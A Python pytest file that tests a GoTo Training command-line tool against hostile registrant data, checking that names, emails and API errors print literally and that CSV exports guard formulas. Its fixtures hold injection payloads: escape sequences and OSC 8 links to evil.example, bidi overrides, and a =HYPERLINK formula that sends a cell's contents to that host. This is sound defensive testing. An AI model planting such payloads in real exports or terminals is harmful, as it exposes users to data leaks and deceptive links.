"""Attacker-controlled text through every command: registrants choose their own names on
GoTo's public registration page, so names, emails, titles and API error messages may hold rich
markup, emoji codes, terminal escape sequences (colours, OSC 8 hyperlinks), bidi overrides and
spreadsheet formulas. Every command must print them literally and keep working.

The output runs as on a terminal (``TTY_COMPATIBLE=1``): rich emits its styles and would emit
hyperlinks, so a ``[link=...]`` that slipped through markup parsing would show up as OSC 8.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import attrs
import httpx
import pytest
from gototraining.cli.sanitize import printable
from gototraining.sandbox import Sandbox
from gototraining.sandbox.store import ApiError, Store
from gototraining.token_store import StoredTokens, TokenStore

from .conftest import Run

TRAINING_NAME = "[/red] Evil \x1b[31mtraining [bold]"
DESCRIPTION = (
    "[link=https://evil.example/login]Click[/link]\n"
    "\x1b]8;;https://evil.example/\x1b\\osc8\x1b]8;;\x1b\\ :warning:"
)
ORGANIZER_NAME = "[/bold]Org\x1b[5m"


@attrs.frozen
class Person:
    email: str
    given_name: str
    surname: str

    @property
    def name(self) -> str:
        return f"{self.given_name} {self.surname}"


#: Registered through the public page (the API takes what the facade would refuse, too).
REGISTERED = (
    Person("[/red]mallory@example.com", "[/bold]", "[/red] x"),
    Person("[bold]eve@example.com", "[link=https://evil.example/login]Click[/link]", ":warning:"),
    Person("esc@example.com", "\x1b[31mRed\x1b[0m", "\u202eevil\u202c"),
    Person("=cmd@example.com", '=HYPERLINK("https://evil.example/?d="&B2,"Open")', "-2+3"),
    Person("tab@example.com", "\tTabbed", "\rCarriage"),
)

#: Never in the output: a hyperlink (rich emits OSC 8 only for ``[link]`` markup), a bidi
#: override, the emoji of ``:warning:``.
FORBIDDEN = ("\x1b]8;", "\u202e", "\u26a0")


def assert_literal(output: str, values: Iterable[str], *, multiline: bool = False) -> None:
    """Each value appears as ``printable`` shows it; no markup was interpreted, no escape
    sequence or hyperlink from the data reached the output."""
    for value in values:
        shown = printable(value, multiline=multiline)
        for part in shown.splitlines():
            assert part in output, (part, output)
        for word in value.split():
            if printable(word) != word:  # holds a control character: never raw
                assert word not in output, (word, output)
    for raw in FORBIDDEN:
        assert raw not in output, (raw, output)


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Render as on a terminal, wide enough that no cell wraps; the commands that create
    something print their sentence, not the key alone."""
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    monkeypatch.setattr("gototraining.cli.output.PIPE_WIDTH", 400)
    monkeypatch.setattr("gototraining.cli.output.stdout_is_terminal", lambda: True)


@pytest.fixture
def hostile(env: Sandbox, terminal: None) -> str:
    """A training with a hostile name, description and organizer, and hostile registrants,
    created the way the outside world does it: raw API requests. Returns its key."""
    api = httpx.Client(
        base_url=env.url, headers={"Authorization": f"Bearer {env.token}"}, timeout=30
    )
    org = f"/organizers/{env.organizer_key}"
    created = api.post(
        f"{org}/trainings",
        json={
            "name": TRAINING_NAME,
            "description": DESCRIPTION,
            "timeZone": "Europe/Berlin",
            "times": [{"startDate": "2030-03-01T08:00:00Z", "endDate": "2030-03-01T10:00:00Z"}],
        },
    )
    assert created.status_code == 201, created.text
    key: str = created.json()
    for person in REGISTERED:
        response = api.post(
            f"{org}/trainings/{key}/registrants",
            json={"email": person.email, "givenName": person.given_name, "surname": person.surname},
        )
        assert response.status_code == 201, response.text
    api.close()
    store = env.core.store
    with store.lock:
        store.organizers[env.organizer_key].given_name = ORGANIZER_NAME
    return key


def _ok(result: Any) -> str:
    assert result.exit_code == 0, (result.stdout, result.stderr)
    out: str = result.stdout + result.stderr
    return out


def test_trainings_list_and_show(hostile: str, run: Run) -> None:
    assert_literal(_ok(run("trainings", "list")), [TRAINING_NAME])
    shown = _ok(run("trainings", "show", hostile))
    assert_literal(shown, [TRAINING_NAME, ORGANIZER_NAME])
    assert_literal(shown, [DESCRIPTION], multiline=True)


def test_trainings_create_echoes_a_hostile_name_literally(
    env: Sandbox, terminal: None, run: Run
) -> None:
    name = "[/bold] [link=https://evil.example/login]x[/link] :warning:"
    out = _ok(run("trainings", "create", "-n", name, "-s", "2030-01-01T08:00Z/09:00Z"))
    assert_literal(out, [repr(name)])


def test_registrants_list(hostile: str, run: Run) -> None:
    out = _ok(run("registrants", "list", hostile))
    assert_literal(out, [p.name for p in REGISTERED] + [p.email for p in REGISTERED])


def test_registrants_cancel_by_email(hostile: str, run: Run, sb: Sandbox) -> None:
    person = REGISTERED[1]
    out = _ok(run("registrants", "cancel", hostile, "--email", person.email))
    assert_literal(out, [f"{person.name} <{person.email}>"])
    assert person.email not in [r.email for r in sb.registrants(hostile)]


def test_reports_attendance(hostile: str, run: Run, sb: Sandbox) -> None:
    sb.complete_training(hostile, attendance_rate=1.0)
    out = _ok(run("reports", "attendance", hostile))
    assert_literal(out, [p.name for p in REGISTERED] + [p.email for p in REGISTERED])


def test_export_guards_formulas_by_default_and_raw_on_request(hostile: str, run: Run) -> None:
    guarded = list(csv.DictReader(io.StringIO(_ok(run("registrants", "export", hostile)))))
    by_email = {row["email"]: row for row in guarded}
    formula = by_email["'=cmd@example.com"]
    assert formula["given_name"] == "'" + REGISTERED[3].given_name
    assert formula["surname"] == "'-2+3"
    tabbed = by_email["tab@example.com"]
    assert tabbed["given_name"] == "'\tTabbed" and tabbed["surname"] == "'\rCarriage"
    assert by_email["[/red]mallory@example.com"]["given_name"] == "[/bold]"  # data, not a formula
    for row in guarded:  # nothing a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    raw = run("registrants", "export", hostile, "--raw-csv")
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(_ok(raw)))}
    assert rows["=cmd@example.com"]["given_name"] == REGISTERED[3].given_name
    assert rows["tab@example.com"]["surname"] == "\rCarriage"


def test_export_to_a_terminal_shows_escapes_not_runs_them(
    hostile: str, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CSV on a terminal is read by a person: control characters from the names are
    shown as escapes there (a pipe or file gets the data as it is: the test above)."""
    monkeypatch.setattr("gototraining.cli.outputs._stdout_is_terminal", lambda: True)
    shown = _ok(run("registrants", "export", hostile))
    names = [p.given_name for p in REGISTERED] + [p.surname for p in REGISTERED]
    assert_literal(shown, [n for n in names if printable(n) != n])
    assert "\\x0dCarriage" in shown and "\\x09Tabbed" in shown  # visible, not run


def test_an_exported_roster_imports_back_unchanged(
    hostile: str, run: Run, sb: Sandbox, tmp_path: Path
) -> None:
    """The formula guard round-trips: ``registrants import`` reads a guarded cell as the value
    it guards, so a roster exported from one training registers the same names elsewhere."""
    roster = tmp_path / "roster.csv"
    _ok(run("registrants", "export", hostile, "--csv", str(roster)))
    assert "'=HYPERLINK" in roster.read_text(encoding="utf-8")
    other = sb.core.store
    created = _ok(
        run("trainings", "create", "-n", "Copy", "-s", "2030-01-01T08:00Z/09:00Z", "--json")
    )
    copy_key = json.loads(created)["training_key"]
    formula_person = REGISTERED[3]
    with roster.open(encoding="utf-8", newline="") as fh:
        lines = [row for row in csv.reader(fh)]
    # Only the rows the facade accepts (no control characters) can be registered again.
    keep = [lines[0]] + [row for row in lines[1:] if row[1] in ("'=cmd@example.com",)]
    with roster.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(keep)
    _ok(run("--rate-limit", "0", "registrants", "import", copy_key, str(roster), "--no-progress"))
    (registered,) = sb.registrants(copy_key)
    assert (registered.email, registered.given_name, registered.surname) == (
        formula_person.email,
        formula_person.given_name,
        formula_person.surname,
    )
    assert other is sb.core.store


def test_import_summary_and_results_file(
    hostile: str, run: Run, sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """People already registered are listed by email, failures with the API's message: both
    hostile, both literal; the results file guards formulas."""
    people = tmp_path / "people.csv"
    rejected = "[/red]reject@example.com"
    with people.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["email", "given_name", "surname"])
        writer.writerow([REGISTERED[0].email, "[/bold]", "x"])  # already registered
        writer.writerow([REGISTERED[3].email, "=1+1", "y"])  # already registered
        writer.writerow([rejected, "[bold]Rej", "=2+2"])
        writer.writerow(["new@example.com", "=HYPERLINK(1)", "@SUM(A1)"])
    register = Store.register
    message = "Rejected [/bold] \x1b[31m[link=https://evil.example/]x[/link]"

    def refusing(self: Store, org: str, tk: str, body: dict[str, Any]) -> Any:
        if body.get("email") == rejected:
            raise ApiError(400, "BadRequest", message)
        return register(self, org, tk, body)

    monkeypatch.setattr(Store, "register", refusing)
    result = run(
        "--rate-limit", "0", "registrants", "import", hostile, str(people), "--no-progress"
    )
    assert result.exit_code == 1  # one row failed
    out = result.stdout + result.stderr
    assert_literal(out, [REGISTERED[0].email, REGISTERED[3].email, rejected, message])
    rows = list(csv.DictReader((tmp_path / "people.results.csv").open(encoding="utf-8")))
    by_line = {row["line"]: row for row in rows}
    assert by_line["3"]["email"] == "'=cmd@example.com"
    assert by_line["4"]["surname"] == "'=2+2" and by_line["4"]["status"] == "failed"
    assert by_line["5"]["given_name"] == "'=HYPERLINK(1)" and by_line["5"]["surname"] == "'@SUM(A1)"
    raw_results = tmp_path / "raw.csv"
    run("registrants", "import", hostile, str(people), "--results", str(raw_results), "--raw-csv")
    raw = list(csv.DictReader(raw_results.open(encoding="utf-8")))
    assert raw[3]["given_name"] == "=HYPERLINK(1)"


def test_whoami_with_a_hostile_token_file(
    config_dir: Path, terminal: None, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    client_id = "[/bold]client\x1b]8;;https://evil.example/\x1b\\"
    TokenStore(config_dir).save(
        StoredTokens(
            client_id=client_id,
            client_secret="secret-value",
            token_url="https://auth.example/token",
            access_token="access-value",
            refresh_token="refresh-value",
            organizer_key="[/red]42",
            base_url="[link=https://evil.example/]x[/link]",
        )
    )
    out = _ok(run("whoami"))
    assert_literal(out, [client_id, "[/red]42", "[link=https://evil.example/]x[/link]"])


def test_api_error_lines_are_literal(
    hostile: str, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    message = "No [/bold] training \x1b[31m\x1b]8;;https://evil.example/\x1b\\here"

    def missing(self: Store, org: str, tk: str) -> Any:
        raise ApiError(404, "NotFound", message)

    monkeypatch.setattr(Store, "get_training", missing)
    result = run("trainings", "show", hostile)
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith("error: 404 Not Found: ")
    assert_literal(line, [message])


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_the_other_commands_show_api_text_literally(hostile: str, run: Run, sb: Sandbox) -> None:
    """Every command that shows names from the API: registrant, organizers, sessions,
    recordings, the account's organizers, and the echo of a rename or a registration."""
    registrant = next(r for r in sb.registrants(hostile) if r.email == "esc@example.com")
    shown = _ok(run("registrants", "show", hostile, registrant.registrant_key))
    assert_literal(shown, [REGISTERED[2].name, REGISTERED[2].email])
    assert_literal(_ok(run("trainings", "organizers", hostile)), [ORGANIZER_NAME])
    assert_literal(_ok(run("organizers", "list", sb.account_key)), [ORGANIZER_NAME])
    markup = "[/bold] [link=https://evil.example/login]x[/link] :warning:"
    assert_literal(_ok(run("trainings", "rename", hostile, "-n", markup)), [repr(markup)])
    added = run("registrants", "add", hostile, "-e", "m@example.com", "-g", markup, "-s", "[red]")
    assert_literal(_ok(added), [f"{markup} [red] <m@example.com>"])
    sb.complete_training(hostile)
    assert_literal(_ok(run("reports", "sessions", "--training", hostile)), [markup])
    assert_literal(_ok(run("recordings", "list", hostile)), [markup])
